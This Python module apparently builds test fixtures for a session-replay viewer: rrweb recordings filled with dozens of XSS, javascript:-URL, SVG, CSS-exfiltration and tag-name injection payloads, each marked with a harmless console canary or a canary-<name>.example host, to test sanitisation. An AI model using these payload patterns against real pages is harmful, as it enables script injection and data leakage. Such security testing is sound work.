"""What a stranger may write into a recording in the hope that a member's browser runs, loads or follows it.

Each payload carries a mark of its own, `canary-<name>`: its scripts say the mark on the console, its URLs are on a host
of that name. So whatever fires tells which payload it was.
"""

import itertools
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Final

type Node = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Mark:
    """The canary of one payload."""

    name: str

    @property
    def js(self) -> str:
        return f"console.log(/canary-{self.name}/)"

    @property
    def url(self) -> str:
        return f"http://canary-{self.name}.example/"

    @property
    def script_url(self) -> str:
        return f"javascript:{self.js}"

    @property
    def markup(self) -> str:
        return f'"\'><img src="{self.url}" onerror="{self.js}"><script>{self.js}</script>'


_ids = itertools.count(1000)


def element(tag: str, attributes: dict[str, Any] | None = None, *children: Node, **more: Any) -> Node:
    """An element as rrweb serialises it."""
    return {
        "type": 2,
        "id": next(_ids),
        "tagName": tag,
        "attributes": attributes or {},
        "childNodes": list(children),
        **more,
    }


def text(content: str, **more: Any) -> Node:
    return {"type": 3, "id": next(_ids), "textContent": content, **more}


def svg(tag: str, attributes: dict[str, Any] | None = None, *children: Node) -> Node:
    return element(tag, attributes, *children, isSVG=True)


def _document(*body: Node) -> Node:
    html = element("html", {}, element("head"), element("body", {}, *body))
    return {"type": 0, "id": next(_ids), "childNodes": [html]}


NODES: Final[dict[str, Callable[[Mark], Node]]] = {
    "script": lambda m: element("script", {}, text(m.js)),
    "script-src": lambda m: element("script", {"src": m.url}),
    "img-onerror": lambda m: element("img", {"src": "x:", "onerror": m.js}),
    "img-src": lambda m: element("img", {"src": m.url}),
    "img-srcset": lambda m: element("img", {"srcset": f"{m.url} 1x, {m.url}2 2x"}),
    "picture": lambda m: element("picture", {}, element("source", {"srcset": m.url}), element("img", {"alt": "x"})),
    "video-poster": lambda m: element("video", {"poster": m.url, "onerror": m.js}, element("source", {"src": m.url})),
    "audio": lambda m: element("audio", {"src": m.url, "autoplay": "", "onerror": m.js, "rr_mediaState": "played"}),
    "iframe-srcdoc": lambda m: element("iframe", {"srcdoc": f"<script>{m.js}</script><img src={m.url}>"}),
    "iframe-src": lambda m: element("iframe", {"src": m.url}),
    "iframe-rr-src": lambda m: element("iframe", {"rr_src": m.url}),
    "iframe-script": lambda m: element("iframe", {"src": m.script_url, "sandbox": "allow-scripts allow-same-origin"}),
    "iframe-document": lambda m: element("iframe", {}, _document(element("img", {"src": m.url, "onerror": m.js}))),
    "object": lambda m: element("object", {"data": f"data:text/html,<script>{m.js}</script>", "type": "text/html"}),
    "embed": lambda m: element("embed", {"src": m.url}),
    "base": lambda m: element("base", {"href": m.url, "target": "_top"}),
    "meta-refresh": lambda m: element("meta", {"http-equiv": "refresh", "content": f"0;url={m.url}"}),
    "meta-csp": lambda m: element("meta", {"http-equiv": "Content-Security-Policy", "content": f"report-uri {m.url}"}),
    "link-stylesheet": lambda m: element("link", {"rel": "stylesheet", "href": m.url}),
    "link-prefetch": lambda m: element("link", {"rel": "prefetch", "href": m.url}),
    "link-preconnect": lambda m: element("link", {"rel": "preconnect dns-prefetch", "href": m.url}),
    "link-icon": lambda m: element("link", {"rel": "icon", "href": m.url}),
    "autofocus": lambda m: element("input", {"autofocus": "", "onfocus": m.js, "value": "x"}),
    "details": lambda m: element("details", {"open": "", "ontoggle": m.js}, element("summary", {}, text("x"))),
    "a-script": lambda m: element("a", {"href": m.script_url}, text("click me")),
    "a-script-hidden": lambda m: element("a", {"href": f" \tjava\nscript:{m.js}"}, text("click me")),
    "a-top": lambda m: element("a", {"href": m.url, "target": "_top"}, text("click me")),
    "a-blank": lambda m: element("a", {"href": m.url, "target": "_blank"}, text("click me")),
    "a-ping": lambda m: element("a", {"href": "#x", "ping": m.url}, text("click me")),
    "a-download": lambda m: element("a", {"href": m.url, "download": "x.exe"}, text("click me")),
    "form": lambda m: element("form", {"action": m.url, "target": "_top"}, element("button", {}, text("send"))),
    "formaction": lambda m: element("form", {}, element("button", {"formaction": m.script_url}, text("send"))),
    "input-image": lambda m: element("input", {"type": "image", "src": m.url, "onerror": m.js}),
    "table-background": lambda m: element("table", {"background": m.url}, element("tbody")),
    "marquee": lambda m: element("marquee", {"onstart": m.js}, text("x")),
    "tag-name": lambda m: element(f"img src={m.url} onerror={m.js}"),
    "attribute-name": lambda m: element("p", {f"x onclick={m.js} y": "", f"><img src={m.url}>": ""}),
    "breaks-out": lambda m: element("textarea", {"value": f"</textarea><script>{m.js}</script><img src={m.url}>"}),
    "noscript": lambda m: element("noscript", {}, text(f"<img src={m.url} onerror={m.js}>")),
    "math": lambda m: element(
        "math", {"href": m.script_url}, element("mtext", {"xlink:href": m.script_url}, text("x"))
    ),
    "shadow": lambda m: element("div", {}, element("img", {"src": m.url}, isShadow=True), isShadowHost=True),
    "canvas": lambda m: element("canvas", {"rr_dataURL": m.url, "onclick": m.js}),
    "img-data": lambda m: element(
        "img", {"src": f"data:image/svg+xml,<svg onload='{m.js}' xmlns='http://www.w3.org/2000/svg'/>"}
    ),
    "custom": lambda m: element("x-payload", {"is": "script", "onclick": m.js, "src": m.url}, isCustom=True),
    "svg-onload": lambda m: svg("svg", {"onload": m.js}, svg("circle", {"r": "9", "onfocus": m.js})),
    "svg-script": lambda m: svg("svg", {}, svg("script", {"href": m.url}, text(m.js))),
    "svg-use": lambda m: svg("svg", {}, svg("use", {"href": f"{m.url}#x", "xlink:href": f"{m.url}#x"})),
    "svg-image": lambda m: svg("svg", {}, svg("image", {"href": m.url, "width": "9", "height": "9"})),
    "svg-a": lambda m: svg("svg", {}, svg("a", {"xlink:href": m.script_url}, svg("text", {"y": "9"}, text("click")))),
    "svg-animate": lambda m: svg(
        "svg",
        {},
        svg(
            "a",
            {},
            svg("animate", {"attributeName": "href", "values": m.script_url}),
            svg("text", {"y": "9"}, text("x")),
        ),
    ),
    "svg-set": lambda m: svg("svg", {}, svg("image", {}, svg("set", {"attributeName": "href", "to": m.url}))),
    "svg-foreign": lambda m: svg("svg", {}, svg("foreignObject", {}, element("iframe", {"src": m.url}))),
    "svg-filter": lambda m: svg(
        "svg",
        {},
        svg("filter", {"id": "f"}, svg("feImage", {"href": m.url})),
        svg("rect", {"filter": f"url({m.url}#f)"}),
    ),
}
"""Elements of a snapshot; each is also added by a mutation."""

CSS: Final[dict[str, Callable[[Mark], str]]] = {
    "css-url": lambda m: f"body {{ background-image: url({m.url}) }}",
    "css-escaped": lambda m: f'main {{ background-image: u\\72l("{m.url}") }}',
    "css-import": lambda m: f'@import "{m.url}";',
    "css-import-commented": lambda m: f"@im\\port/**/url({m.url});",
    "css-font": lambda m: f"@font-face {{ font-family: c; src: url({m.url}) }} * {{ font-family: c }}",
    "css-image-set": lambda m: f'div {{ background-image: image-set("{m.url}" 1x) }}',
    "css-content": lambda m: f"div::before {{ content: url({m.url}); cursor: url({m.url}), auto }}",
    "css-exfiltration": lambda m: f'input[value^="x"] {{ list-style: url({m.url}); background: url({m.url}) }}',
    "css-breaks-out": lambda m: f"</style><script>{m.js}</script><img src={m.url}>",
    "css-variable": lambda m: f":root {{ --u: url({m.url}) }} p {{ background-image: var(--u) }}",
}
"""Style sheets: as text, as a rule that is inserted, and adopted."""

CHANGES: Final[dict[str, Callable[[Mark], dict[str, Any]]]] = {
    "set-onclick": lambda m: {"onclick": m.js, "onmouseover": m.js, "onerror": m.js, "src": "x:"},
    "set-src": lambda m: {"src": m.url},
    "set-srcdoc": lambda m: {"srcdoc": f"<script>{m.js}</script>"},
    "set-href": lambda m: {"href": m.script_url, "xlink:href": m.script_url},
    "set-style": lambda m: {"style": {"background-image": f"url({m.url})"}},
    "set-style-text": lambda m: {"style": f"background-image: url('{m.url}')"},
}
"""Attributes that a mutation sets, on an element of each tag in TARGETS."""

TARGETS: Final = ("img", "iframe", "a", "div", "script", "object")

EVENTS: Final[dict[str, Callable[[Mark], tuple[str, dict[str, Any]]]]] = {
    "console": lambda m: (
        "console",
        {"level": "error", "args": [f"%c{m.markup}", f"background: url({m.url})"], "stack": m.markup},
    ),
    "console-link": lambda m: ("console", {"level": "log", "args": [m.script_url], "stack": f"at {m.script_url}:1:1"}),
    "error": lambda m: (
        "error",
        {
            "type": "error",
            "message": m.markup,
            "source": m.script_url,
            "line": 1,
            "column": 1,
            "stack": f"at x ({m.script_url})",
        },
    ),
    "request": lambda m: (
        "request",
        {"id": 1, "phase": "start", "initiator": "fetch", "method": m.markup, "url": m.script_url},
    ),
    "request-end": lambda m: (
        "request",
        {
            "id": 1,
            "phase": "end",
            "initiator": "fetch",
            "method": m.markup,
            "url": m.url,
            "status": 500,
            "duration": 1.0,
            "size": 1,
            "outcome": "failed",
        },
    ),
    "page-title": lambda m: ("page", {"cause": "push", "url": m.url, "title": m.markup, "referrer": m.script_url}),
    "page-url": lambda m: ("page", {"cause": "push", "url": m.script_url, "title": "x", "referrer": m.url}),
    "click": lambda m: ("click", {"x": 1.0, "y": 1.0, "id": 1, "name": m.markup[:250]}),
    "track": lambda m: ("track", {"name": m.markup[:250], "properties": {m.markup: m.script_url}}),
    "identity": lambda m: ("identify", {"id": m.markup[:250], "traits": {"url": m.script_url, m.markup: m.markup}}),
}
"""Events for the panels, the lists and the console."""

HELLO: Final[dict[str, Callable[[Mark], str]]] = {
    "entry-url": lambda m: m.script_url,
    "entry-title": lambda m: m.markup,
    "referrer": lambda m: m.script_url,
    "user-agent": lambda m: f"Mozilla/5.0 {m.markup}",
    "language": lambda m: f"<img src={m.url}>"[:64],
    "timezone": lambda m: f"<i onclick={m.js}>"[:64],
}
"""What the first message of a collector says of the page and the device."""

SPOILERS: Final = frozenset({"iframe-document", "tag-name"})
"""Without the cleaning, rrweb builds the document in place of the page and stops at the name: the rest is not shown."""

COUNT: Final = len(NODES) + len(CSS) + len(CHANGES) + len(EVENTS) + len(HELLO)


def made[T](table: dict[str, Callable[[Mark], T]]) -> dict[str, T]:
    return {name: make(Mark(name)) for name, make in table.items()}


def rrweb_events(*, without: frozenset[str] = frozenset()) -> list[dict[str, Any]]:
    """A page full of payloads, in rrweb's event model without times: a snapshot, then every kind of change."""
    targets = {tag: element(tag, {"id": f"target-{tag}"}) for tag in TARGETS}
    sheet = element("style", {"_cssText": "p { color: red }"}, text("p { color: red }", isStyle=True))
    styles = [element("style", {}, text(css, isStyle=True)) for css in made(CSS).values()]
    texts = [element("style", {"_cssText": css}) for css in made(CSS).values()]
    nodes = _nodes(without)
    body = element(
        "body",
        {"onload": "console.log(/canary-body/)"},
        element("main", {}, *targets.values(), *nodes),
    )
    html = element("html", {}, element("head", {}, sheet, *styles, *texts), body)
    document = {
        "type": 0,
        "id": 1,
        "childNodes": [{"type": 1, "id": 2, "name": "html", "publicId": "", "systemId": ""}, html],
    }
    return [
        {"type": 4, "data": {"href": Mark("meta").script_url, "width": 1200, "height": 800}},
        {"type": 2, "data": {"node": document, "initialOffset": {"left": 0, "top": 0}}},
        *_additions(body, without),
        *_changes(targets),
        *_css_changes(sheet),
        _incremental(5, id=targets["div"]["id"], text=Mark("input").markup, isChecked=False),
        _incremental(10, family="c2", fontSource=f"url({Mark('font').url})", buffer=False),
        _incremental(
            9,
            id=targets["div"]["id"],
            type=0,
            commands=[{"property": "drawImage", "args": [Mark("canvas-command").url]}],
        ),
    ]


def standing(*, without: frozenset[str] = frozenset()) -> dict[str, Any]:
    """What stands where these events were rebuilt to their end: STANDING says the same of a document."""
    added = 2 * [name for name in NODES if name not in without]
    changed = {f"target-{tag}": sorted(f"data-{name}" for name in CHANGES) for tag in TARGETS}
    return {"added": sorted(added), "changed": changed, "styles": 1 + 2 * len(CSS), "adopted": 1 + len(CSS)}


STANDING: Final = """(replayed) => ({
  added: [...replayed.querySelectorAll('[data-payload]')].map(({ dataset }) => dataset.payload).sort(),
  changed: Object.fromEntries([...replayed.querySelectorAll('[id^=target-]')].map((target) => [
    target.id,
    target.getAttributeNames().filter((name) => name.startsWith('data-set-')).sort(),
  ])),
  styles: replayed.querySelectorAll('style').length,
  adopted: replayed.adoptedStyleSheets.length,
})"""


def _nodes(without: frozenset[str]) -> list[Node]:
    """Each says its name, which no cleaning takes away."""
    nodes = {name: node for name, node in made(NODES).items() if name not in without}
    for name, node in nodes.items():
        node["attributes"]["data-payload"] = name
    return list(nodes.values())


def _additions(body: Node, without: frozenset[str]) -> list[dict[str, Any]]:
    return [_mutation(adds=[{"parentId": body["id"], "nextId": None, "node": node}]) for node in _nodes(without)]


def _changes(targets: dict[str, Node]) -> list[dict[str, Any]]:
    return [
        _mutation(attributes=[{"id": target["id"], "attributes": {**attributes, f"data-{name}": ""}}])
        for name, attributes in made(CHANGES).items()
        for target in targets.values()
    ]


def _css_changes(sheet: Node) -> list[dict[str, Any]]:
    rules = list(made(CSS).values())
    inserted = [_incremental(8, id=sheet["id"], adds=[{"rule": rule, "index": 0}]) for rule in rules]
    adopted = [{"styleId": n, "rules": [{"rule": rule, "index": 0}]} for n, rule in enumerate(rules, 1)]
    value = {"property": "background", "value": f"url({Mark('declaration').url})", "priority": ""}
    return [
        *inserted,
        _incremental(15, id=1, styleIds=[style["styleId"] for style in adopted], styles=adopted),
        _incremental(13, id=sheet["id"], index=[0], set=value),
        _mutation(texts=[{"id": sheet["childNodes"][0]["id"], "value": rule} for rule in rules]),
    ]


def _mutation(**data: list[Any]) -> dict[str, Any]:
    return _incremental(0, **{"adds": [], "removes": [], "texts": [], "attributes": [], **data})


def _incremental(source: int, **data: Any) -> dict[str, Any]:
    return {"type": 3, "data": {"source": source, **data}}
